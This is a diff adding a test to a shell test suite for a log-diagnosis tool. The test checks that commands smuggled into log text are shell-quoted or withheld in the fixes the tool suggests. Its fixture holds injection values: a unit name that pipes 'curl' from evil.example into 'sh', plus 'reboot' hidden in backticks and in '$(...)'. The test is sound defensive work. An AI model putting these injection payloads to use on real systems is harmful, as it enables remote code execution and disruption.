@@ -61,4 +61,24 @@ SIG
 "$CORONER" -s "$TMP/sigs" "$GOOD" >/dev/null 2>"$TMP/err"; s=$?
 [ $s -eq 2 ] && grep -q "re.json" "$TMP/err" && grep -q "offset" "$TMP/err" && ok "a bad PCRE2 pattern: exit 2 with pattern offset" \
         || not_ok "bad PCRE2 pattern" "exit $s: $(cat "$TMP/err")"
+# Whoever writes a log line chooses the text a capture puts into a fix: in
+# a command it is quoted for the shell (or the fix withheld), never left to
+# run. Two systemd lines whose unit names carry commands.
+printf '%s\n' 'Nov 29 21:40:13 gpu systemd[1]: x;curl${IFS}evil.example|sh;#.service: Main process exited, code=dumped, status=11/SEGV' \
+        'Nov 29 21:40:14 gpu systemd[1]: b`reboot`.service: Main process exited, code=killed, status=9/KILL' \
+        "PermissionError: [Errno 13] Permission denied: '/srv/a\$(reboot)b'" > "$TMP/hostile.log"
+"$CORONER" -f json "$TMP/hostile.log" > "$TMP/hostile.json"
+check "captured text in fixes and checks is quoted for the shell" "$PY" - "$TMP/hostile.json" <<'PYEOF'
+import json, re, sys
+r = json.load(open(sys.argv[1]))
+texts = [f for d in r["diagnoses"] for f in d["fixes"]] + [c["check"] for d in r["diagnoses"] for c in d["candidates"]]
+bad = []
+for t in texts:
+    outside = re.sub(r"'(?:[^']|'\\'')*'", "", t)  # what single quotes do not protect
+    if "curl" in outside or "`reboot`" in outside or "$(reboot)" in outside:
+        bad.append(t)
+assert any("curl" in t for t in texts), "the hostile unit reached no fix: the test tests nothing"
+assert any(t.startswith("(A command is withheld") for t in texts), "a value inside the template's quotes: withheld"
+sys.exit("\n".join(bad) if bad else 0)
+PYEOF
 done_testing
